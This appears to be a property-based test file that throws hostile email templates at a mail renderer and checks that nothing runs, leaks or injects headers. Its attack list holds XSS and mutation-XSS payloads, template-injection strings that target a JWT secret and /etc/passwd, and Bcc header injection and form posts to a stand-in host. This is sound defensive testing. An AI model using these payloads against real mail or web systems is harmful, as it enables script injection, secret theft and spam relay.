import fc from "fast-check";
import { fromHtml } from "hast-util-from-html";
import PostalMime from "postal-mime";
import { visit } from "unist-util-visit";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { mimeOf } from "../../kernel/ports/mime";
import { kept, render } from "./index";
import { saveTemplate } from "./template.schema";
import { VARIABLES } from "./variables.rules";

/** How many templates are tried: `HOSTILE_TEMPLATES=10000` for all of them. */
const RUNS = Number(process.env.HOSTILE_TEMPLATES ?? 300);
const SEED = 20_261_123;
const TIMEOUT_MS = 600_000;

const SECRET = "clave-que-no-debe-salir-7719";
const FOOT = { unsubscribeUrl: "https://foja.ar/unsubscribe?token=canario" };

/** Strings that have broken out of templates, sanitisers and headers before. */
const ATTACKS = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form action="https://malo.ar"><input name=clave></form>',
  "<meta http-equiv=refresh content=0;url=https://malo.ar>",
  "<base href=https://malo.ar>",
  "<link rel=stylesheet href=https://malo.ar/x.css>",
  "<style>.foja-foot{display:none}</style>",
  '<div style="position:fixed;inset:0;background:url(https://malo.ar)">x</div>',
  '<div style="background:expression(alert(1))">x</div>',
  "</td></tr></table></body></html>",
  "<!-- --!><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<xmp><script>alert(1)</script></xmp>",
  "<template><script>alert(1)</script></template>",
  "<plaintext>",
  "<textarea><script>",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
  "${process.env.JWT_SECRET}",
  "{{process.env.JWT_SECRET}}",
  "{{constructor}}",
  "{{nombre.constructor}}",
  '{{env "JWT_SECRET"}}',
  "{{=<% %>=}}<%= process.env %>",
  "{% include '/etc/passwd' %}",
  "#{global.process}",
  "{{nombre|<script>alert(1)</script>}}",
  "{{__proto__}}",
  "{{{nombre}}}",
  "\r\nBcc: todos@malo.ar",
  "\u2028Bcc: todos@malo.ar",
  "=?utf-8?B?DQpCY2M6IHhAbWFsby5hcg==?=",
  "\u202etxt.exe",
  "\ud800",
  "\u0000",
] as const;

const piece = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...ATTACKS) },
  { weight: 2, arbitrary: fc.constantFrom(...VARIABLES.map((name) => `{{${name}}}`)) },
  { weight: 2, arbitrary: fc.constantFrom("<p>", "</p>", '<td class="', "<table>", "'", '"', ">") },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 12 }) },
  { weight: 1, arbitrary: fc.lorem({ maxCount: 4 }) },
);
const text = fc.array(piece, { minLength: 1, maxLength: 6 }).map((parts) => parts.join(""));

/** A text with an attack inserted at some point: a careless filter would put it together again. */
const broken = fc
  .tuple(text, fc.nat(200), piece)
  .map(([whole, at, more]) => whole.slice(0, at) + more + whole.slice(at));

const given = fc.record({
  name: text,
  subject: fc.oneof(text, fc.constantFrom("Hola {{nombre}}", "{{plan|su plan}}")),
  preheader: fc.oneof(text, fc.constant("")),
  html: fc.oneof(text, broken),
  text: fc.oneof(fc.constant(""), text),
});
const reader = fc.record(
  Object.fromEntries(VARIABLES.map((name) => [name, fc.oneof(text, fc.string())])),
  { requiredKeys: [] },
);

const TAGS = new Set(
  "html head meta title style body div table tbody thead tfoot tr td th p a b br em strong i u s small span ul ol li h1 h2 h3 h4 hr img center code blockquote sub sup".split(
    " ",
  ),
);

/** Everything in a mail that runs, loads or submits, except pictures over https. */
function dangers(html: string): string[] {
  const found: string[] = [];
  visit(fromHtml(html), "element", ({ tagName, properties }) => {
    if (!TAGS.has(tagName)) found.push(`<${tagName}>`);
    for (const [name, value] of Object.entries(properties)) {
      const shape = HARMLESS[name];
      if (/^on|^srcdoc$|^action$|^id$/i.test(name)) found.push(`${name}=`);
      if (shape && !shape.test(String(value))) found.push(String(value));
    }
  });
  return found;
}

const HARMLESS: Record<string, RegExp> = {
  href: /^(https?:\/\/|mailto:|tel:)/i,
  src: /^https:\/\//i,
  style: /^(?!.*(url\(|expression|position|@import|\\))/is,
};

describe("hostile templates and hostile data", () => {
  const before = { ...process.env };
  beforeAll(() => {
    process.env.JWT_SECRET = SECRET;
  });
  afterAll(() => {
    process.env = before;
  });

  /** How many of the templates were accepted unchanged, and how many were rendered. */
  const tally = { accepted: 0, written: 0 };

  it(
    `run nothing, begin no header and read nothing: ${RUNS}`,
    async () => {
      await fc.assert(
        fc.asyncProperty(given, reader, async (template, data) => {
          const checked = saveTemplate.safeParse(template);
          if (checked.success) tally.accepted += 1;
          // What the schema refuses is rendered all the same: the second defence must hold alone.
          const safe = checked.success ? checked.data : { ...template, blocks: null };
          const letter = render(kept(safe), data, FOOT);
          tally.written += 1;
          expect(dangers(letter.html)).toEqual([]);
          for (const line of [letter.subject, letter.preheader]) {
            expect(line).not.toMatch(/[\p{Cc}\p{Cs}\p{Zl}\p{Zp}\u202a-\u202e\u2066-\u2069]/u);
          }
          const all = JSON.stringify(letter);
          expect(all).not.toContain(SECRET);
          expect(letter.html).toContain(FOOT.unsubscribeUrl);
          expect(letter.html.match(/<style>/g)).toHaveLength(1);
          await expectWellFormed(letter);
        }),
        { numRuns: RUNS, seed: SEED },
      );
      expect(tally.written).toBe(RUNS);
      console.info(`Hostile templates: ${RUNS}; accepted as they came: ${tally.accepted}`);
    },
    TIMEOUT_MS,
  );
});

const HEADERS = ["content-type", "date", "from", "message-id", "mime-version", "subject", "to"];

/** Encodes a mail as MIME and parses it with another library. */
async function expectWellFormed(letter: { subject: string; text: string; html: string }) {
  const { subject, text: plain, html } = letter;
  const octets = await mimeOf({
    ...{ from: "Foja <foja@foja.ar>", to: "ana@foja.ar" },
    ...{ subject, text: plain, html },
  });
  const read = await PostalMime.parse(octets);
  expect(read.headers.map(({ key }) => key).sort()).toEqual(
    subject === "" ? HEADERS.filter((key) => key !== "subject") : HEADERS,
  );
  expect(read.to).toMatchObject([{ address: "ana@foja.ar" }]);
  expect(read.text).toContain("retiro o bloqueo de su nombre");
  expect(read.html).toContain("retiro o bloqueo de su nombre");
  expect(read.attachments).toEqual([]);
}
